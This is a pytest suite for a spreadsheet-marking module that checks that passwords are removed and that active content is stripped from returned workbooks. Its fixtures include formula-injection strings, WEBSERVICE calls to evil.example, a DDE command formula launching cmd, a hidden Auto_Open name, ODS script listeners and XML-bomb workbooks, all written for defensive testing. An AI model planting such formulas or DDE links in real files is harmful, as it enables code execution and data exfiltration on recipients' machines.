"""The marked workbook: marks in the right cells, everything else as it was."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable
from html import escape

import openpyxl
import pytest
import xlsxwriter
import xlwt
from hypothesis import given
from hypothesis import settings as settings_of_hypothesis
from hypothesis import strategies as st
from odf.opendocument import OpenDocumentSpreadsheet
from odf.table import Table as OdfTable
from odf.table import TableCell, TableRow
from odf.text import P
from openpyxl.chart import BarChart, Reference
from openpyxl.comments import Comment
from openpyxl.formatting.rule import FormulaRule, Rule
from openpyxl.styles import Font, NamedStyle
from openpyxl.styles.differential import DifferentialStyle
from openpyxl.styles.numbers import NumberFormat
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.workbook.workbook import Workbook
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.filters import SortCondition, SortState
from openpyxl.worksheet.hyperlink import Hyperlink
from openpyxl.worksheet.table import Table

from ingest.letters.secrets import MASK
from ingest.letters.terms import Marked
from ingest.reading.documents import written_in
from ingest.replies.answers import reply
from ingest.replies.marked import _sheet_name, mark
from ingest.replies.wording import wording
from layouts.document import Document
from layouts.findings import Code, Place, Status, finding
from layouts.terms import LANGUAGES, RETURNED_LIST_TITLES, Verdict
from tests.ingest.replies import cases
from tests.ingest.replies.cases import ENTITY, LETTER, NOW, settings
from tests.ingest.replies.renew import body, opened
from tests.parsers import pages

SECRET = "Сек рет-77"
SHEET = "Лист1"
ROWS = (
    ("Показания приборов учёта",),
    ("Код пользователя", "200000001234"),
    ("Пароль", SECRET),
    ("Организация", "ООО «Пример»"),
    ("Точка учёта", "№ прибора учёта", "Показание"),
    ("200000001234-01", "07512345", "12 345,67"),
    ("200000001234-02", "07519999", "нет данных"),
)
ERROR = finding(
    Code.INVALID_NUMBER, Place(sheet=SHEET, cell="C7"), seen="нет данных", point="200000001234-02"
)
WARNING = finding(Code.DECIMAL_COMMA, Place(sheet=SHEET, cell="C6"), seen="12 345,67")
WHOLE = finding(Code.POINT_MISSING, points="200000001234-03")


def made(change: object = None) -> bytes:
    workbook = Workbook()
    sheet = workbook.worksheets[0]
    sheet.title = SHEET
    for row in ROWS:
        sheet.append(row)
    sheet.merge_cells("A1:C1")
    sheet["D6"] = "=C6*2"
    sheet["D6"].number_format = "0.000"
    workbook.create_sheet("Заметки")["B2"] = "своё"
    if callable(change):
        change(workbook)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def marked(
    content: bytes, *findings: object, secrets: tuple[str, ...] = (SECRET,), language: str = "ru"
) -> Marked:
    found = findings or (ERROR, WARNING, WHOLE)
    result = mark(Document("52006.xlsx", content), found, secrets, language, written_in)  # type: ignore[arg-type]
    assert result is not None
    return result


def loaded(result: Marked) -> Workbook:
    return openpyxl.load_workbook(io.BytesIO(result.content))


def test_faulty_cells_are_filled_and_commented() -> None:
    sheet = loaded(marked(made()))[SHEET]
    assert sheet["C7"].fill.fgColor.rgb == "FFF4A6A0"
    assert sheet["C6"].fill.fgColor.rgb == "FFFFC58A"
    assert sheet["C7"].comment.text.startswith("Ошибка: Значение не число.")
    assert sheet["B7"].comment is None
    assert sheet["B7"].fill.fill_type is None


def test_the_first_sheet_lists_the_findings_with_links() -> None:
    workbook = loaded(marked(made()))
    first = workbook.worksheets[0]
    assert first.title == "Замечания"
    assert workbook.active is first
    assert first["A1"].value == "Замечания к документу «52006.xlsx»"
    told = [[cell.value for cell in row[:5]] for row in first.iter_rows(min_row=4)]
    assert told == [
        [1, "Ошибка", SHEET, "C7", "нет данных"],
        [2, "Замечание", SHEET, "C6", "12 345,67"],
        [3, "Замечание", None, None, None],
    ]
    assert first["D4"].hyperlink.location == f"'{SHEET}'!C7"


def test_everything_else_stays_as_it_was() -> None:
    workbook = loaded(marked(made()))
    sheet = workbook[SHEET]
    assert workbook.sheetnames == ["Замечания", SHEET, "Заметки"]
    assert sheet["D6"].number_format == "0.000"
    assert [str(r) for r in sheet.merged_cells.ranges] == ["A1:C1"]
    assert [cell.value for cell in sheet[6]][:3] == list(ROWS[5])
    assert workbook["Заметки"]["B2"].value == "своё"


def test_the_password_cell_is_emptied_and_its_neighbours_stay() -> None:
    sheet = loaded(marked(made()))[SHEET]
    assert [cell.value for cell in sheet[3]][:2] == ["Пароль", None]
    assert [cell.value for cell in sheet[4]][:2] == ["Организация", "ООО «Пример»"]


def test_a_password_of_digits_is_emptied_too() -> None:
    def change(workbook: Workbook) -> None:
        workbook[SHEET]["B3"] = 12345

    assert loaded(marked(made(change), secrets=("12345",)))[SHEET]["B3"].value is None


def test_passwords_are_nowhere_in_the_package() -> None:
    def change(workbook: Workbook) -> None:
        sheet = workbook["Заметки"]
        sheet["A1"] = f"Пароль: {SECRET}"
        sheet["A2"] = f"наш пароль {SECRET}, не забыть"
        sheet["A3"].comment = openpyxl.comments.Comment(f"это {SECRET}", "кто-то")
        workbook.properties.description = SECRET

    with zipfile.ZipFile(io.BytesIO(marked(made(change)).content)) as package:
        texts = [package.read(name).decode("utf-8", "replace") for name in package.namelist()]
    assert not any(SECRET in text for text in texts)


@pytest.mark.parametrize("secret", [SECRET, "738495066173948"])
def test_a_sheet_named_by_a_password_is_named_as_in_its_findings(secret: str) -> None:
    def change(workbook: Workbook) -> None:
        workbook[SHEET].sheet_properties.codeName = workbook[SHEET].title = secret
        workbook.create_sheet(f"не {secret}")
        workbook.code_name = secret
        workbook[secret].auto_filter.ref = "A5:C7"
        workbook[secret].auto_filter.add_filter_column(1, [secret])

    found = finding(Code.INVALID_NUMBER, Place(sheet=MASK, cell="C7"))
    unread = finding(Code.NOT_READ, Place(sheet=f"не {MASK}"))
    result = marked(made(change), found, unread, secrets=(secret,))
    workbook = loaded(result)
    assert workbook.sheetnames == ["Замечания", MASK, "Заметки"]
    assert workbook[MASK]["C7"].comment is not None
    with zipfile.ZipFile(io.BytesIO(result.content)) as package:
        assert not any(secret.encode() in package.read(name) for name in package.namelist())


def test_a_password_that_cannot_be_taken_out_keeps_the_workbook_back() -> None:
    # Every workbook has a part of that name.
    secrets = ("sheet1.xml",)
    assert mark(Document("a.xlsx", made()), (ERROR,), secrets, "ru", written_in) is None


@pytest.mark.parametrize("secret", [SECRET, 'a&b<c"d-1', "12345678", "password"])
def test_a_password_is_in_no_header_prompt_name_link_format_or_comment(secret: str) -> None:
    def change(workbook: Workbook) -> None:
        sheet = workbook[SHEET]
        sheet.oddHeader.center.text = sheet.evenFooter.left.text = secret
        sheet["C6"].hyperlink = Hyperlink(ref="C6", location="A1", tooltip=secret, display=secret)
        sheet["C6"].comment = Comment(f"пароль {secret}", secret)
        workbook.defined_names["x"] = DefinedName("x", attr_text=f'"{escape(secret)}"')
        workbook.properties.title = workbook.properties.lastModifiedBy = secret
        rule = DataValidation("list", formula1='"T0"', sqref="B9", promptTitle=secret)
        rule.prompt = rule.error = rule.errorTitle = secret
        sheet.add_data_validation(rule)
        listed = DataValidation("list", formula1=f'"{secret.replace(",", "")}"', sqref="B8")
        sheet.add_data_validation(listed)
        sheet.evenHeader.left.font = secret
        style = NamedStyle(secret, font=Font(name=secret, b=True))
        sheet["B6"].style = style
        sheet["B7"].number_format = secret
        sheet.sheet_properties.syncRef = secret
        sheet.auto_filter.ref = "A5:C7"
        order = SortCondition(ref="C6:C7", customList=secret)
        sheet.auto_filter.sortState = SortState(ref="A6:C7", sortCondition=[order])
        differs = DifferentialStyle(font=Font(name=secret), numFmt=NumberFormat(170, secret))
        rule_of_cells = Rule("expression", dxf=differs, formula=["TRUE"])
        sheet.conditional_formatting.add("A1:A2", rule_of_cells)

    forms = {secret, escape(secret), escape(secret, quote=False)}
    result = marked(made(change), ERROR, secrets=tuple(forms))
    with zipfile.ZipFile(io.BytesIO(result.content)) as package:
        for name in package.namelist():
            text = package.read(name).decode("utf-8")
            assert not any(f">{form}<" in text or f'"{form}"' in text for form in forms), name
            assert f"пароль {escape(secret, quote=False)}" not in text, name
            assert f"&amp;&quot;{escape(secret)}" not in text, name
    assert loaded(result)[SHEET]["B6"].font.b


def test_an_earlier_reply_s_marks_are_taken_out_first() -> None:
    again = marked(marked(made()).content, WARNING)
    workbook = loaded(again)
    assert workbook.sheetnames == ["Замечания", SHEET, "Заметки"]
    assert workbook[SHEET]["C7"].comment is None
    assert workbook[SHEET]["C7"].fill.fill_type is None
    assert workbook[SHEET]["C6"].comment is not None


def test_a_sender_s_own_comment_stays_above_ours() -> None:
    def change(workbook: Workbook) -> None:
        workbook[SHEET]["C7"].comment = openpyxl.comments.Comment("проверить!", "Иванова")

    text = loaded(marked(made(change)))[SHEET]["C7"].comment.text
    assert text.startswith("проверить!\n\nОшибка:")


def test_a_finding_in_a_merged_cell_marks_its_first_cell() -> None:
    where = Place(sheet=SHEET, cell="B1")
    sheet = loaded(marked(made(), finding(Code.INVALID_DATE, where)))[SHEET]
    assert sheet["A1"].comment is not None


def test_places_that_are_not_there_are_only_listed() -> None:
    odd = [
        finding(Code.INVALID_DATE, Place(sheet="нет такого", cell="A1")),
        finding(Code.INVALID_DATE, Place(sheet=SHEET, cell="??")),
    ]
    first = loaded(marked(made(), *odd)).worksheets[0]
    assert first.max_row == 5
    assert first["D4"].hyperlink is None


def test_texts_that_begin_like_a_formula_stay_texts() -> None:
    attack = '=HYPERLINK("http://evil")\x07'
    where = Place(sheet=SHEET, cell="C7")
    first = loaded(marked(made(), finding(Code.INVALID_NUMBER, where, seen=attack))).worksheets[0]
    assert first["E4"].data_type == "s"


def test_a_cell_far_away_costs_nothing() -> None:
    def change(workbook: Workbook) -> None:
        workbook[SHEET]["XFD1048576"].font = openpyxl.styles.Font(bold=True)

    assert marked(made(change))


def test_what_is_lost_is_named() -> None:
    buffer = io.BytesIO()
    workbook = xlsxwriter.Workbook(buffer, {"in_memory": True})
    sheet = workbook.add_worksheet(SHEET)
    sheet.insert_textbox("B2", "внимание")
    sheet.write_formula("A1", "=1+1", None, 2)
    sheet.add_sparkline("C1", {"range": "Лист1!A1:B1"})
    workbook.close()
    assert marked(buffer.getvalue()).lost == ("shapes", "extensions", "formulas")


def xls() -> bytes:
    workbook = xlwt.Workbook()
    sheet = workbook.add_sheet(SHEET)
    for row, values in enumerate(ROWS):
        for column, value in enumerate(values):
            sheet.write(row, column, value)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def ods() -> bytes:
    document = OpenDocumentSpreadsheet()
    table = OdfTable(name=SHEET)
    for values in ROWS:
        row = TableRow()
        for value in values:
            cell = TableCell(valuetype="string")
            cell.addElement(P(text=value))
            row.addElement(cell)
        table.addElement(row)
    document.spreadsheet.addElement(table)
    buffer = io.BytesIO()
    document.write(buffer)
    return buffer.getvalue()


@pytest.mark.parametrize("content", [pytest.param(xls(), id="xls"), pytest.param(ods(), id="ods")])
def test_other_formats_come_back_with_values_and_marks(content: bytes) -> None:
    result = marked(content)
    sheet = loaded(result)[SHEET]
    assert result.lost == ("formats",)
    assert [cell.value for cell in sheet[6]][:3] == list(ROWS[5])
    assert sheet["B3"].value is None
    assert sheet["C7"].comment is not None


@pytest.mark.parametrize("content", [b"", b"PK\x03\x04 noise", made()[:3000], b"<xml/>"])
def test_what_is_no_workbook_is_not_marked(content: bytes) -> None:
    assert mark(Document("a.xlsx", content), (ERROR,), (), "ru", written_in) is None


def test_the_reply_carries_the_marked_workbook_and_names_what_is_lost() -> None:
    receipts = [cases.receipt(7, cases.parsed(), Verdict.REJECTED, Status.DATA_ERRORS, (ERROR,))]
    result = Marked(marked(made()).content, ("shapes", "formulas"))
    owed = reply(LETTER, ENTITY, receipts, NOW, settings(), letter_number=1, marked={0: result})
    message = opened(owed)
    names = [part.get_filename() for part in message.iter_attachments()]
    assert names == ["80021_7.xml", "52006 (проверено).xlsx"]
    assert "не сохранились: надписи и фигуры, формулы" in body(message, "plain")


@pytest.mark.parametrize(
    ("result", "told"),
    [(Marked(bytes(4_000_000)), "она слишком велика"), (None, "составить её не удалось")],
)
def test_a_workbook_that_is_not_attached_is_told_as_that(result: Marked | None, told: str) -> None:
    receipts = [cases.receipt(7, cases.parsed(), Verdict.REJECTED, Status.DATA_ERRORS, (ERROR,))]
    owed = reply(LETTER, ENTITY, receipts, NOW, settings(), letter_number=1, marked={0: result})
    message = opened(owed)
    assert [part.get_filename() for part in message.iter_attachments()] == ["80021_7.xml"]
    assert len(owed.content) < 5_000_000
    assert f"Ваша книга «52006.xlsx» с пометками не приложена: {told}" in body(message, "plain")
    assert "Приложена ваша книга" not in body(message, "plain")


def test_macros_and_pictures_are_named_as_lost() -> None:
    buffer = io.BytesIO(made())
    with zipfile.ZipFile(buffer, "a") as package:
        package.writestr("xl/vbaProject.bin", b"macro")
        package.writestr("xl/media/image1.png", b"picture")
    result = marked(buffer.getvalue())
    assert result.lost[:2] == ("images", "macros")
    with zipfile.ZipFile(io.BytesIO(result.content)) as package:
        assert "xl/vbaProject.bin" not in package.namelist()


@given(st.integers(0, len(made()) - 1), st.integers(0, 255))
@settings_of_hypothesis(max_examples=60, deadline=None)
def test_a_damaged_workbook_never_raises(at: int, byte: int) -> None:
    content = bytearray(made())
    # A book of another second may be a few bytes shorter.
    content[at % len(content)] = byte
    mark(Document("a.xlsx", bytes(content)), (ERROR,), (SECRET,), "ru", written_in)


@pytest.mark.parametrize("language", LANGUAGES)
def test_the_readers_know_the_list_of_a_returned_workbook(language: str) -> None:
    title = wording(language).word("marks", "title")
    assert title.startswith(RETURNED_LIST_TITLES)


ALIVE = (
    b"<f>", b"<f ", b"externalLink", b"TargetMode", b"vbaProject", b"<definedName ",
    b"WEBSERVICE", b"cmd|", b"http", b"conditionalFormatting", b"<c:chart", b"pivotTable",
    b"tablePart", b"ddeLink",
)  # fmt: skip


def alive(workbook: Workbook) -> None:
    """Give a workbook all that a workbook program follows or calculates."""
    sheet = workbook[SHEET]
    for number, formula in enumerate(
        ('=WEBSERVICE("http://evil.example")', "=cmd|'/C calc'!A0", "=[1]Other!A1",
         '=HYPERLINK("http://evil.example")'), 10,
    ):  # fmt: skip
        sheet.cell(number, 1, formula)
    sheet["C6"].hyperlink = "http://evil.example/"
    hidden = DefinedName("Auto_Open", attr_text='WEBSERVICE("http://evil.example")', hidden=True)
    workbook.defined_names["Auto_Open"] = hidden
    sheet.defined_names["own"] = DefinedName("own", attr_text="[1]Other!A1")
    rule = FormulaRule(formula=['WEBSERVICE("http://evil.example")=1'])
    sheet.conditional_formatting.add("A1:A9", rule)
    for rule_text in (
        '"T0,T1"',
        'WEBSERVICE("http://evil.example")',
        '"T0, =WEBSERVICE(A1)"',
        '"A+,-,-WEBSERVICE(A1)"',
        '"A+,-,R-"',
    ):
        sheet.add_data_validation(DataValidation("list", formula1=rule_text, sqref="B9"))
    chart = BarChart()
    chart.add_data(Reference(sheet, min_col=3, min_row=5, max_row=7))
    sheet.add_chart(chart, "H1")
    sheet.add_table(Table(displayName="t", ref="A5:C7"))


def test_nothing_that_is_followed_or_calculated_is_sent_on() -> None:
    whole = made(alive)
    with zipfile.ZipFile(io.BytesIO(whole)) as package:
        sent = b"".join(map(package.read, package.namelist()))
    assert [sign for sign in ALIVE if sign in sent][:2] == [b"<f>", b"TargetMode"]
    with zipfile.ZipFile(io.BytesIO(marked(whole).content)) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    for name, part in parts.items():
        # Namespaces are written like addresses.
        bare = re.sub(rb'(xmlns(:\w+)?|Type|uri|defaultPivotStyle)="[^"]*"', b"", part)
        assert [sign for sign in ALIVE if sign in bare] == [], name
        assert [sign for sign in ALIVE if sign in name.encode()] == []
    sheet = loaded(marked(whole))[SHEET]
    rules = [rule.formula1 for rule in sheet.data_validations.dataValidation]
    assert rules == ['"T0,T1"', '"A+,-,R-"']


MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PARTS = {
    # Each with its type, whose relation it is, and the kind of that.
    "xl/externalLinks/externalLink1.xml": ("externalLink+xml", "book", "externalLink"),
    "xl/connections.xml": ("connections+xml", "book", "connections"),
    "xl/pivotCache/pivotCacheDefinition1.xml": (
        "pivotCacheDefinition+xml", "book", "pivotCacheDefinition"),
    "xl/queryTables/queryTable1.xml": ("queryTable+xml", "sheet", "queryTable"),
    "xl/macrosheets/sheet9.xml": ("macrosheet+xml", "book", "xlMacrosheet"),
    "xl/dialogsheets/sheet8.xml": ("dialogsheet+xml", "book", "dialogsheet"),
    "xl/vbaProject.bin": ("vbaProject", "book", "vbaProject"),
    "xl/customData/item1.data": ("model+data", "book", "powerPivotData"),
    "xl/persons/person.xml": ("person+xml", "book", "person"),
    "xl/threadedComments/threadedComment1.xml": ("threadedcomments+xml", "sheet",
                                                 "threadedComment"),
    "xl/printerSettings/printerSettings1.bin": ("printerSettings", "sheet", "printerSettings"),
    "xl/embeddings/oleObject1.bin": ("oleObject", "sheet", "oleObject"),
    "xl/activeX/activeX1.xml": ("control+xml", "sheet", "control"),
    "xl/ctrlProps/ctrlProp1.xml": ("controlproperties+xml", "sheet", "ctrlProp"),
    "xl/slicers/slicer1.xml": ("slicer+xml", "sheet", "slicer"),
    "customXml/item1.xml": ("customXml+xml", "book", "customXml"),
    "customUI/customUI.xml": ("customUI+xml", "", "extensibility"),
    "docProps/custom.xml": ("custom-properties+xml", "", "custom-properties"),
    "xl/webextensions/taskpanes.xml": ("taskpanes+xml", "", "webextensiontaskpanes"),
}  # fmt: skip
INSIDE = {
    "xl/theme/theme1.xml": '<!-- evil.example --><a:extLst><a:ext uri="evil.example"/></a:extLst>',
    "xl/workbook.xml": f'<externalReferences xmlns:r="{REL}"><externalReference r:id="n0"/>'
    "</externalReferences>",
    "xl/worksheets/sheet1.xml": f'<pageSetup xmlns:r="{REL}" r:id="n10"/>'
    f'<oleObjects xmlns:r="{REL}">'
    '<oleObject progId="Package" shapeId="1" r:id="n11"/><oleObject progId="DDE" link="[1]!x"'
    ' dvAspect="DVASPECT_ICON" oleUpdate="OLEUPDATE_ALWAYS" shapeId="2"/></oleObjects>'
    f'<controls xmlns:r="{REL}"><control shapeId="3" r:id="n12"/></controls>'
    '<webPublishItems count="1"><webPublishItem id="1" divId="a" sourceType="sheet"'
    ' destinationFile="http://evil.example/a.htm"/></webPublishItems><extLst><ext'
    ' uri="{78C0D931-6437-407d-A8EE-F0AAD7539E65}"><x14:cf'
    ' xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main">'
    "WEBSERVICE(evil.example)</x14:cf></ext></extLst>"
    '<scenarios><scenario name="evil.example"><inputCells r="A1" val="1"/></scenario></scenarios>',
}
CONTENTS = {
    "docProps/custom.xml": f'<Properties xmlns="{REL[:-13]}custom-properties"'
    f' xmlns:vt="{REL[:-13]}docPropsVTypes"><property pid="2" name="a" linkTarget="evil.example"'
    ' fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}"><vt:lpwstr>1</vt:lpwstr></property>'
    "</Properties>",
}
KEPT_PARTS = re.compile(
    r"\[Content_Types\]\.xml|_rels/\.rels|docProps/(app|core)\.xml|xl/_rels/workbook\.xml\.rels"
    r"|xl/(workbook|styles|sharedStrings|theme/theme1)\.xml|xl/worksheets/sheet\d\.xml"
    r"|xl/worksheets/_rels/sheet\d\.xml\.rels|xl/comments/comment\d\.xml"
    r"|xl/drawings/commentsDrawing\d\.vml"
)


def with_everything(content: bytes) -> bytes:
    """The workbook with every kind of part that a workbook program would act upon."""
    owners = {
        "book": "xl/_rels/workbook.xml.rels",
        "sheet": "xl/worksheets/_rels/sheet1.xml.rels",
        "": "_rels/.rels",
    }
    ends = {"[Content_Types].xml": "", **dict.fromkeys(owners.values(), ""), **INSIDE}
    for number, (name, (kind, owner, relation)) in enumerate(PARTS.items()):
        ends["[Content_Types].xml"] += f'<Override PartName="/{name}" ContentType="{MAIN}.{kind}"/>'
        ends[owners[owner]] += (
            f'<Relationship Id="n{number}" Type="{REL}/{relation}" Target="/{name}"/>'
        )
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as before,
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as after,
    ):
        for name in before.namelist():
            part = before.read(name)
            if end := ends.pop(name, ""):
                at = part.rindex(b"</")
                part = part[:at] + end.encode() + part[at:]
            after.writestr(name, part)
        assert not ends
        for name in PARTS:
            after.writestr(name, CONTENTS.get(name, "<evil.example/>"))
    return buffer.getvalue()


def test_no_part_is_sent_on_but_those_that_say_what_cells_hold() -> None:
    result = marked(with_everything(made(alive)))
    with zipfile.ZipFile(io.BytesIO(result.content)) as package:
        assert [name for name in package.namelist() if not KEPT_PARTS.fullmatch(name)] == []
        for name in package.namelist():
            assert b"evil" not in package.read(name), name
            assert b'TargetMode="External"' not in package.read(name), name


def ods_alive() -> bytes:
    """An .ods with what LibreOffice follows, calculates or runs."""
    names = "urn:oasis:names:tc:opendocument:xmlns:"
    link = 'xlink:href="http://evil.example/" xmlns:xlink="http://www.w3.org/1999/xlink"'
    ends = {
        b"</office:spreadsheet>": "<table:dde-links><table:dde-link><office:dde-source "
        'office:dde-application="cmd" office:dde-topic="evil.example" office:dde-item="a"/>'
        "<table:table/></table:dde-link></table:dde-links>"
        '<table:named-expressions><table:named-expression table:name="evil.example" '
        'table:expression="of:=WEBSERVICE(A1)"/></table:named-expressions>',
        b"</table:table>": f'<table:table-row><table:table-cell office:value-type="float" '
        'table:formula="of:=WEBSERVICE(&quot;http://evil.example&quot;)" office:value="1">'
        f"<text:p><text:a {link}>1</text:a></text:p><draw:frame><draw:object {link}/>"
        f"</draw:frame></table:table-cell></table:table-row><table:table-source {link}/>",
        b"<office:body>": f"<office:scripts><office:event-listeners><script:event-listener {link} "
        f'xmlns:script="{names}script:1.0" script:language="ooo:script" script:event-name='
        '"dom:load"/></office:event-listeners></office:scripts>',
    }
    extra = ("Basic/Standard/evil.xml", "Scripts/python/evil.py", "Object 1/content.xml")
    return changed(ods(), "content.xml", ends, extra)


def xlsb_alive() -> bytes:
    """An .xlsb with what Excel follows, calculates or runs."""
    address = pages._long("http://evil.example")
    hyperlink = pages._record(494, bytes(16) + address * 4)
    end = pages._record(130, b"")
    outside = (
        '<Relationship Id="r7" Type="a/{}" Target="http://evil.example" TargetMode="External"/>'
    )
    cells = {(y, x): v for y, row in enumerate(ROWS, 1) for x, v in enumerate(row, 1)}
    content = pages.xlsb([pages.Page(SHEET, cells)])
    content = changed(content, "xl/worksheets/sheet1.bin", {end: hyperlink})
    ends = {b"</Relationships>": outside}
    names = ("externalLinks/externalLink1", "vbaProject", "activeX/activeX1", "embeddings/ole1")
    return changed(
        content, "xl/_rels/workbook.bin.rels", ends, tuple(f"xl/{name}.bin" for name in names)
    )


def changed(
    content: bytes, name: str, before: dict[bytes, str | bytes], extra: tuple[str, ...] = ()
) -> bytes:
    """A package with something put before the last of some texts of a part, and more parts."""
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as old,
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for info in old.infolist():
            part = old.read(info)
            for text, put in before.items() if info.filename == name else ():
                at = part.rindex(text)
                part = part[:at] + (put.encode() if isinstance(put, str) else put) + part[at:]
            new.writestr(info, part)
        for one in extra:
            new.writestr(one, "evil.example")
    return buffer.getvalue()


@pytest.mark.parametrize("make", [ods_alive, xlsb_alive])
def test_of_other_formats_nothing_but_values_is_sent_on(make: Callable[[], bytes]) -> None:
    content = make()
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        assert sum(b"evil" in package.read(name) for name in package.namelist()) > 2
    result = marked(content)
    assert loaded(result)[SHEET]["B6"].value == ROWS[5][1]
    with zipfile.ZipFile(io.BytesIO(result.content)) as package:
        assert [name for name in package.namelist() if not KEPT_PARTS.fullmatch(name)] == []
        for name in package.namelist():
            part = package.read(name)
            assert b"evil" not in part, name
            assert b"<f" not in part or name == "xl/styles.xml", name
            assert b'TargetMode="External"' not in part, name


@pytest.mark.parametrize("kind", ["f", "str", "e", "x"])
def test_no_type_of_a_cell_makes_a_formula_of_its_value(kind: str) -> None:
    row = f'<sheetData><row r="20"><c r="A20" t="{kind}"><v>=A1+1</v></c></row></sheetData>'
    result = marked(bomb(sheet=row))
    with zipfile.ZipFile(io.BytesIO(result.content)) as package:
        sheet = package.read("xl/worksheets/sheet2.xml")
    assert b"=A1+1" in sheet
    assert b"<f" not in sheet.replace(b"<fo", b"")


@pytest.mark.parametrize("state", ["hidden", "veryHidden"])
def test_hidden_sheets_are_left_out(state: str) -> None:
    def change(workbook: Workbook) -> None:
        workbook["Заметки"].sheet_state = state

    result = marked(made(change))
    assert loaded(result).sheetnames == ["Замечания", SHEET]
    assert result.lost[-1] == "sheets"
    old = xlwt.Workbook()
    for name, is_hidden in ((SHEET, 0), ("Заметки", 1)):
        sheet = old.add_sheet(name)
        sheet.write(0, 0, "своё")
        sheet.visibility = is_hidden
    buffer = io.BytesIO()
    old.save(buffer)
    assert loaded(marked(buffer.getvalue())).sheetnames == ["Замечания", SHEET]


def test_a_template_comes_back_as_a_workbook() -> None:
    def change(workbook: Workbook) -> None:
        workbook.template = True

    with zipfile.ZipFile(io.BytesIO(marked(made(change)).content)) as package:
        assert b"template" not in package.read("[Content_Types].xml")


def test_a_formula_becomes_its_value() -> None:
    buffer = io.BytesIO()
    workbook = xlsxwriter.Workbook(buffer, {"in_memory": True})
    workbook.add_worksheet(SHEET).write_formula("D6", "=1+1", None, 2)
    workbook.close()
    assert loaded(marked(buffer.getvalue()))[SHEET]["D6"].value == 2


def test_a_sheet_that_was_not_read_is_left_out_and_said_so() -> None:
    unread = finding(Code.NOT_READ, Place(sheet="Заметки"))
    result = marked(made(), ERROR, unread)
    assert loaded(result).sheetnames == ["Замечания", SHEET]
    assert "sheets" in result.lost


def bomb(**changed: str) -> bytes:
    """A workbook into whose parts something is written very often."""
    parts = {
        "sheet": "xl/worksheets/sheet1.xml",
        "styles": "xl/styles.xml",
        "book": "xl/workbook.xml",
    }
    texts = {parts[part]: text for part, text in changed.items()}
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(made())) as before,
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as after,
    ):
        for name in before.namelist():
            content = before.read(name)
            if name in texts:
                end = content.rindex(b"</")
                content = content[:end] + texts[name].encode() + content[end:]
            after.writestr(name, content)
    return buffer.getvalue()


BOMBS = {
    "styles": {"styles": "<cellXfs>" + "<xf/>" * 200_000 + "</cellXfs>"},
    "rules": {
        "sheet": '<conditionalFormatting sqref="A1"><cfRule type="x" priority="1"/>'
        "</conditionalFormatting>" * 100_000
    },
    "names": {"book": "<definedNames>" + '<definedName name="a">1</definedName>' * 100_000
    + "</definedNames>"},
    "merges": {"sheet": "<mergeCells>" + '<mergeCell ref="A1:B2"/>' * 100_000 + "</mergeCells>"},
    "one merge over all": {"sheet": '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'},
    "one link over all": {"sheet": '<hyperlinks><hyperlink ref="A1:XFD1048576"/></hyperlinks>'},
    "links": {"sheet": "<hyperlinks>" + '<hyperlink ref="A1"/>' * 100_000 + "</hyperlinks>"},
    "cells": {"sheet": "<sheetData>" + "<row><c/></row>" * 200_000 + "</sheetData>"},
}  # fmt: skip


@pytest.mark.parametrize("name", BOMBS)
def test_what_costs_openpyxl_much_is_refused_before_it_is_asked(
    name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    content = bomb(**BOMBS[name])

    def asked(*_: object, **__: object) -> None:
        pytest.fail("openpyxl was asked")

    monkeypatch.setattr(openpyxl, "load_workbook", asked)
    assert mark(Document("a.xlsx", content), (ERROR,), (), "ru", written_in) is None


def test_a_sheet_has_a_name_of_its_own_that_excel_takes() -> None:
    book = Workbook()
    for _ in range(3):
        book.create_sheet(_sheet_name(book, "a/b*" + "x" * 40))
    book.create_sheet(_sheet_name(book, "''"))
    first = "a b " + "x" * 27
    assert book.sheetnames == [
        "Sheet", first, f"{first[:26]} (2)", f"{first[:26]} (3)", "Sheet (2)"
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("count", "text"), [(0, ""), (1, "1"), (2, "1, 2"), (3, "1, 2 и ещё 1"), (5, "1, 2 и ещё 3")]
)
def test_of_many_items_the_first_are_listed_and_the_others_counted(count: int, text: str) -> None:
    items = [str(number) for number in range(1, count + 1)]
    assert wording("ru").listed(items, 2) == text
